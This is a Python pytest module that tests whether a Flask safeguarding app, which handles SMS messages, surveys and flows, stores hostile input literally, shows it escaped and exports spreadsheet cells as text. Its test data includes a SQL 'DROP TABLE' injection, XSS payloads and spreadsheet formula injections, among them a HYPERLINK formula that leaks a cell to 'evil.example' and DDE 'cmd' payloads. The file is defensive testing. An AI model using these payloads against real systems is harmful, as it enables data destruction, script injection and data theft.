"""Hostile text typed into every free-text field is kept as text and shown as text.

``HOSTILE`` carries a SQL injection, a script and a broken-out attribute. Through the real pages,
each field must store it exactly as typed (no SQL error, no table gone), and every page that
shows it must show it escaped: the escaped form present, the raw markup nowhere.
"""

from __future__ import annotations

import csv
import html
import io
import json
from typing import Any

import openpyxl
import pytest
from flask.testing import FlaskClient
from markupsafe import escape
from sqlalchemy import select
from werkzeug.test import TestResponse

from changemakers import safeguarding
from changemakers.accounts.models import Role, StaffUser
from changemakers.alerts.models import Alert, AlertReply, RuleSet
from changemakers.extensions import db
from messages.flows import editing
from messages.models import Broadcast, FlowVersion, InboundMessage, Signpost
from surveys import services as surveys
from surveys.models import SurveyVersion
from tests.security.conftest import DANGER, World, row_counts, session_token, sign_in_as
from tests.support.sms import post_signed, replies_of, twilio_form
from tests.support.surveys import EVERY_KIND, released_responses

SQL = "'); DROP TABLE staff_users; --"
SCRIPT = '<script>alert("xss")</script>'
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
HOSTILE = f"{SQL} {SCRIPT} {ATTRIBUTE}"


def assert_shown_as_text(html: str, text: str = HOSTILE) -> None:
    """``text`` is on the page, escaped, and none of its markup is."""
    assert_no_markup(html)
    assert str(escape(text)) in html


def assert_listed_as_text(html: str) -> None:
    """A list shows the start of ``HOSTILE`` (cut short), escaped, and none of its markup."""
    assert_no_markup(html)
    assert str(escape(SQL)) in html


def assert_no_markup(html: str) -> None:
    """None of ``HOSTILE``'s markup is live on the page."""
    assert "<script>alert" not in html
    assert "<img src=x" not in html


def assert_tables_intact() -> None:
    """Every table is still there to be counted: no statement was broken out of."""
    assert all(count >= 0 for count in row_counts().values())


def page(client: FlaskClient, url: str) -> str:
    """A page that must load."""
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.get_data(as_text=True)


def post(client: FlaskClient, url: str, data: dict[str, Any], expect: int = 302) -> TestResponse:
    """Send a form as the signed-in browser does, and check the status it answers."""
    token = session_token(client, signed_in=True)
    response = client.post(url, data={**data, "csrf_token": token})
    assert response.status_code == expect, (url, response.get_data(as_text=True))
    return response


@pytest.fixture
def writer(client, make_staff) -> StaffUser:
    """Signed in as someone who may write, review and keep everything."""
    user = make_staff(Role.CHANGEMAKER, Role.REVIEWER, Role.ADMIN, email="writer@example.org")
    sign_in_as(client, user)
    return user


def step_form(text: str, **fields: str) -> dict[str, str]:
    """The step editor's form: a message step saying ``text``, then the goodbye."""
    data = {"kind": "message", "text": text, "next": "goodbye", "hint": "", "expires_after": ""}
    data.update({"after": "", "flow": "", "to_kind": "", "to_ref": ""})
    for row in range(6):
        data.update({f"options-{row}-{name}": "" for name in ("label", "replies", "next")})
    return {**data, **fields}


def test_an_sms_reaches_the_alert_desk_as_text(client, make_staff, send_sms):
    """A young person's text, shown to reviewers in the queue and on the alert."""
    send_sms(f"{DANGER} {HOSTILE}")
    assert db.session.scalar(select(InboundMessage.body_redacted)) == f"{DANGER} {HOSTILE}"
    assert_tables_intact()
    sign_in_as(client, make_staff(Role.REVIEWER))
    alert = db.session.scalars(select(Alert)).one()
    assert_listed_as_text(page(client, "/alerts/"))
    assert_shown_as_text(page(client, f"/alerts/{alert.id}"))


def test_a_reply_with_the_words_of_a_text_is_well_formed_twiml(client, echo_keyword):
    """A conversation repeating what was texted answers Twilio with the text as text."""
    post_signed(client, twilio_form("ECHO"))
    response = post_signed(client, twilio_form(HOSTILE))
    assert replies_of(response) == [f"1: {HOSTILE}"]
    assert b"<script>" not in response.get_data() and b"<img" not in response.get_data()


def test_the_phone_simulator_shows_what_was_typed_as_text(client, writer):
    """What a member of staff texts from the pretend phone, in its conversation."""
    post(client, "/sms/simulator", {"number": "07700 900555", "body": HOSTILE})
    assert_shown_as_text(page(client, "/sms/simulator"))
    assert_tables_intact()


def answer(client: FlaskClient, url: str, question: str, *values: str) -> TestResponse:
    """Answer a question of a web survey, as its page's form does."""
    token = session_token(client, signed_in=False)
    return client.post(url, data={"csrf_token": token, "q": question, "answer": list(values)})


def test_a_web_survey_answer_in_their_own_words(app, client, make_staff, monkeypatch):
    """The young person's words on the page that asks again after too long an answer, on the
    question when they go back to it, in the stored response and on the board's findings."""
    surveys.load_published(EVERY_KIND)
    url = "/s/every-kind"
    token = session_token(client, signed_in=False)
    assert client.post(url, data={"csrf_token": token, "action": "start"}).status_code == 302
    for question, values in (
        ("colour", ["Red"]),
        ("worries", ["Money"]),
        ("safe", ["4"]),
        ("hours", ["2"]),
    ):
        assert answer(client, url, question, *values).status_code == 302
    too_long = answer(client, url, "change", HOSTILE * 3)
    assert too_long.status_code == 400
    assert_shown_as_text(too_long.get_data(as_text=True), HOSTILE * 3)
    assert answer(client, url, "change", HOSTILE).status_code == 302
    assert answer(client, url, "age", "14 to 15").status_code == 302
    assert_shown_as_text(page(client, f"{url}?q=change"))  # going back to change it
    token = session_token(client, signed_in=False)
    assert client.post(url, data={"csrf_token": token, "action": "send"}).status_code == 200
    [response] = released_responses()
    assert response.answers["change"] == HOSTILE
    assert_tables_intact()

    monkeypatch.setitem(app.config, "SUPPRESSION_THRESHOLD", 1)
    board = app.test_client()
    sign_in_as(board, make_staff(Role.BOARD))
    assert_no_markup(page(board, "/findings/every-kind"))
    assert_no_markup(page(board, "/findings/every-kind/report"))


def test_a_flows_name_steps_and_examples(client, writer):
    """What a Changemaker writes in the flow editor, on every page of the editor and in try-it."""
    created = post(client, "/flows", {"name": "Exams", "keyword": "EXAMS"})
    base = created.headers["Location"]
    post(client, f"{base}/steps/welcome", step_form(HOSTILE, hint=HOSTILE))
    post(client, f"{base}/settings", {"name": HOSTILE, "keyword": "EXAMS", "start": "welcome"})
    post(client, f"{base}/examples", {"name": HOSTILE, "texts": "EXAMS", "expect": HOSTILE})
    version = db.session.scalars(select(FlowVersion)).one()
    db.session.refresh(version)
    assert version.content["name"] == HOSTILE
    assert version.content["steps"]["welcome"]["text"] == HOSTILE
    assert_tables_intact()
    assert_shown_as_text(page(client, base))
    assert_shown_as_text(page(client, f"{base}/steps/welcome"))
    assert_shown_as_text(page(client, f"{base}/settings"))
    assert_no_markup(page(client, "/flows"))
    post(client, f"{base}/try", {"body": "EXAMS"})
    assert_shown_as_text(page(client, f"{base}/try"))
    exported = client.get(f"{base}/flow.json")
    assert (
        exported.mimetype == "application/json"
        and "attachment" in exported.headers["Content-Disposition"]
    )
    assert json.loads(exported.get_data())["steps"]["welcome"]["text"] == HOSTILE


def test_what_someone_types_into_try_it(client, writer):
    """What a Changemaker texts to a flow in try-it, in the pretend conversation."""
    base = post(client, "/flows", {"name": "Exams", "keyword": "EXAMS"}).headers["Location"]
    post(client, f"{base}/try", {"body": HOSTILE})
    assert_shown_as_text(page(client, f"{base}/try"))


def test_a_surveys_questions_and_settings(client, writer):
    """What a Changemaker writes in the survey editor, and the phone preview of it."""
    created = post(client, "/surveys", {"title": "Safe", "slug": "safe-streets"})
    base = created.headers["Location"]
    question = {
        "kind": "single_choice",
        "text": HOSTILE,
        "hint": HOSTILE,
        "options": f"Red\n{HOSTILE}",
        "required": "y",
        "show_if_question": "",
    }
    version = db.session.scalars(select(SurveyVersion)).one()
    first = version.content["questions"][0]["id"]
    post(client, f"{base}/questions/{first}", question)
    settings = {"title": HOSTILE, "slug": "safe-streets", "keyword": ""}
    post(client, f"{base}/settings", {**settings, "intro": HOSTILE, "privacy": HOSTILE})
    db.session.refresh(version)
    assert version.content["questions"][0]["text"] == HOSTILE
    assert version.content["questions"][0]["options"] == ["Red", HOSTILE]
    assert version.content["title"] == HOSTILE
    assert_tables_intact()
    assert_shown_as_text(page(client, base))
    assert_shown_as_text(page(client, f"{base}/questions/{first}"))
    assert_shown_as_text(page(client, f"{base}/preview/{first}"))
    assert_shown_as_text(page(client, f"{base}/settings"))
    assert_no_markup(page(client, "/surveys"))


def test_a_signposting_entry_and_a_message_that_names_it(client, writer):
    """A helpline entry on the directory's pages, and inside a flow's message that names it."""
    entry = {
        "name": "hostile",
        "title": SCRIPT,
        "contact": "0800 1111",
        "text": f"{HOSTILE} 0800 1111",
        "hours": SCRIPT,
        "audience": HOSTILE,
        "review_by": "2099-01-01",
    }
    post(client, "/signposting/new", entry)
    stored = db.session.get_one(Signpost, "hostile")
    assert (stored.text, stored.audience) == (f"{HOSTILE} 0800 1111", HOSTILE)
    assert_tables_intact()
    assert_shown_as_text(page(client, "/signposting"), SCRIPT)
    assert_shown_as_text(page(client, "/signposting/hostile"))
    base = post(client, "/flows", {"name": "Help", "keyword": "HELPME"}).headers["Location"]
    post(client, f"{base}/steps/welcome", step_form("Talk to {hostile}."))
    assert_shown_as_text(page(client, base))


def test_a_reviewers_reply_and_closing_note(client, make_staff, send_sms):
    """A reviewer's reply to a young person and the note closing the alert, on the alert."""
    send_sms(DANGER)
    alert = db.session.scalars(select(Alert)).one()
    sign_in_as(client, make_staff(Role.REVIEWER))
    post(client, f"/alerts/{alert.id}/reply", {"body": HOSTILE, "form_token": "a"})
    assert db.session.scalar(select(AlertReply.body)) == HOSTILE
    assert_shown_as_text(page(client, f"/alerts/{alert.id}"))
    post(client, f"/alerts/{alert.id}/close", {"note": HOSTILE})
    db.session.refresh(alert)
    assert alert.close_note == HOSTILE
    assert_tables_intact()
    assert_shown_as_text(page(client, f"/alerts/{alert.id}"))
    assert_shown_as_text(page(client, "/alerts/?show=closed"), DANGER)


def test_the_detector_rules(app, client, make_staff):
    """Rules, a summary and a reviewer's note, on the check, the proposal and its return."""
    sign_in_as(client, make_staff(Role.REVIEWER, email="proposer@example.org"))
    text = f"# {HOSTILE}\n{safeguarding.shipped_rules_text()}"
    refused = post(client, "/alerts/rules", {"rules": HOSTILE, "action": "check"}, 400)
    assert_shown_as_text(refused.get_data(as_text=True))
    checked = post(client, "/alerts/rules", {"rules": text, "action": "check"}, 200)
    assert_shown_as_text(checked.get_data(as_text=True), f"# {HOSTILE}")
    post(
        client,
        "/alerts/rules",
        {"rules": text, "summary": HOSTILE, "action": "propose", "based_on": "shipped"},
    )
    proposal = db.session.scalars(select(RuleSet)).one()
    assert proposal.text == text and proposal.summary == HOSTILE
    assert_tables_intact()

    reviewer = app.test_client()
    sign_in_as(reviewer, make_staff(Role.REVIEWER, email="reviewer@example.org"))
    assert_shown_as_text(page(reviewer, "/alerts/rules"))
    form = {"decision": "return", "rule_set_id": str(proposal.id), "note": HOSTILE}
    post(reviewer, "/alerts/rules/decision", form)
    db.session.refresh(proposal)
    assert proposal.decision_note == HOSTILE
    assert_tables_intact()
    assert HOSTILE in html.unescape(page(client, "/alerts/rules"))
    assert_no_markup(page(client, "/alerts/rules"))


def upload(content: str, name: str) -> dict[str, Any]:
    """A file for the import forms."""
    return {"file": (io.BytesIO(content.encode()), name)}


def test_an_imported_flow_file(client, writer):
    """A file's words on the new draft; a file refused lists its problems as text."""
    flow = editing.starter(HOSTILE, "IMPORTED")
    flow["steps"]["welcome"]["text"] = HOSTILE
    flow["examples"][0]["expect"] = [HOSTILE]
    imported = post(client, "/flows/import", upload(json.dumps(flow), "flow.json"))
    assert_shown_as_text(page(client, imported.headers["Location"]))
    flow["steps"]["welcome"]["next"] = HOSTILE  # a step that is not there
    flow["keyword"] = "OTHER"
    refused = post(client, "/flows/import", upload(json.dumps(flow), "flow.json"), 400)
    assert_shown_as_text(refused.get_data(as_text=True))
    not_yaml = post(client, "/flows/import", upload(f"{SCRIPT}: [", "flow.yaml"), 400)
    assert_no_markup(not_yaml.get_data(as_text=True))
    assert_tables_intact()


def test_an_imported_survey_file(client, writer):
    """A file's words on the new draft; a file refused names what is wrong as text."""
    survey = {**EVERY_KIND, "title": HOSTILE, "intro": HOSTILE}
    survey["questions"] = [{**EVERY_KIND["questions"][0], "text": HOSTILE}]
    imported = post(client, "/surveys/import", upload(json.dumps(survey), "survey.json"))
    assert_shown_as_text(page(client, imported.headers["Location"]))
    survey["questions"][0]["show_if"] = {"question": HOSTILE, "any_of": ["x"]}
    refused = post(client, "/surveys/import", upload(json.dumps(survey), "survey.json"), 400)
    assert_shown_as_text(refused.get_data(as_text=True), SCRIPT)
    assert_tables_intact()


def test_a_broadcast(client, writer):
    """A broadcast's words in the list of broadcasts and on its own page."""
    created = post(client, "/broadcasts", {"body": HOSTILE})
    assert db.session.scalar(select(Broadcast.body)) == HOSTILE
    assert_listed_as_text(page(client, "/broadcasts"))
    assert_shown_as_text(page(client, created.headers["Location"]))


def test_a_staff_accounts_email(client, make_staff):
    """An address an admin typed, on the accounts pages and in the audit log."""
    sign_in_as(client, make_staff(Role.ADMIN))
    email = f"{SCRIPT}{ATTRIBUTE}@example.org".lower()
    created = post(client, "/admin/users/new", {"email": email, "roles": ["board"]})
    assert db.session.scalar(select(StaffUser).where(StaffUser.email == email)) is not None
    for url in ("/admin/users", created.headers["Location"], "/admin/audit/"):
        assert_shown_as_text(page(client, url), email)


def test_words_sent_back_in_the_page(client, make_staff, world: World):
    """Text a page repeats from its own form or address: sign-in, MYDATA, filters."""
    token = session_token(client, signed_in=False)
    signing_in = client.post(
        "/login", data={"email": HOSTILE, "password": "x", "csrf_token": token}
    )
    assert_shown_as_text(signing_in.get_data(as_text=True))
    sign_in_as(client, make_staff(*Role, email="everyone@example.org"))
    looked_up = post(client, "/mydata/", {"reference": SCRIPT}, 404)
    assert_shown_as_text(looked_up.get_data(as_text=True), SCRIPT)
    for path, query in (
        ("/admin/audit/", {"action": HOSTILE, "page": HOSTILE}),
        ("/findings/every-kind", {"group": f"age:{HOSTILE}"}),
        ("/findings/every-kind/compare", {"first": SCRIPT, "second": "1"}),
        ("/alerts/", {"show": HOSTILE}),
        ("/s/every-kind", {"q": HOSTILE}),
        ("/flows/1/v1/try", {"restart": HOSTILE}),
    ):
        response = client.get(path, query_string=query)
        assert response.status_code < 500, path
        assert_no_markup(response.get_data(as_text=True))
    assert_tables_intact()


FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Read more")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def test_the_findings_spreadsheets_carry_words_never_formulas(client, make_staff):
    """Question and answer words that look like formulas reach the board's CSV and XLSX
    downloads as text, so opening the file runs nothing."""
    survey = {**EVERY_KIND, "slug": "formulas", "keyword": "FORMULAS"}
    survey["questions"] = [
        {**EVERY_KIND["questions"][0], "text": FORMULAS[0], "options": list(FORMULAS[1:])}
    ]
    surveys.load_published(survey)
    sign_in_as(client, make_staff(Role.BOARD))
    downloaded = client.get("/findings/formulas/findings.csv")
    assert downloaded.status_code == 200
    cells = [
        cell for row in csv.reader(io.StringIO(downloaded.get_data(as_text=True))) for cell in row
    ]
    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get("/findings/formulas/findings.xlsx").data)
    )
    sheet_cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert {f"'{formula}" for formula in FORMULAS} <= set(cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert {f"'{formula}" for formula in FORMULAS} <= {cell.value for cell in sheet_cells}
    assert not [cell.coordinate for cell in sheet_cells if cell.data_type == "f"]


def test_the_findings_command_writes_words_never_formulas(app, db_session):
    """``changemakers findings --format csv`` writes the same words-not-formulas cells."""
    survey = {**EVERY_KIND, "slug": "formulas", "keyword": "FORMULAS"}
    survey["questions"] = [
        {**EVERY_KIND["questions"][0], "text": FORMULAS[0], "options": list(FORMULAS[1:])}
    ]
    surveys.load_published(survey)
    result = app.test_cli_runner().invoke(args=["findings", "formulas", "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.output)) for cell in row]
    assert f"'{FORMULAS[0]}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
